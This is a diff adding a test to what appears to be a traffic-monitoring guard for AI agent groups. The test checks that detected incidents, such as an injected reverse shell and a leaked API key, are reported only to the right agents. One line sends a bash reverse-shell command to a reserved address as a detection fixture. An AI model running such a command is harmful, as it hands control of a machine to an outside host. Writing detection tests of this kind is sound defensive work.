@@ -109,6 +109,24 @@ describe('two agent groups', () => {
       tool: 'traffic-check-config',
     });
   });
+
+  test('each are told only their own incidents', async () => {
+    const socket = join(guardian.home, 'control.sock');
+    const url = await guardian.proxyUrl('green');
+    await send(url, 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n');
+    await guardian.findingsWhen((all) =>
+      all.some(({ agent, direction }) => agent === 'green' && direction === 'inbound'),
+    );
+    await send(url, freshKey());
+    await guardian.findingsWhen((all) =>
+      all.some(({ agent, pattern }) => agent === 'green' && pattern === 'ai_api_key'),
+    );
+    const told = async (agent: string): Promise<unknown> =>
+      ((await answerAgent(socket, agent, 'traffic-findings', { incidents: true })) as { incidents: unknown }).incidents;
+    expect(await told('green')).toMatchObject([{ agent: 'green' }]);
+    expect(await told('ops')).toMatchObject([{ agent: 'green' }]);
+    expect(await told('red')).toEqual([]);
+  });
 });
 
 describe('a group cannot pass for another', () => {
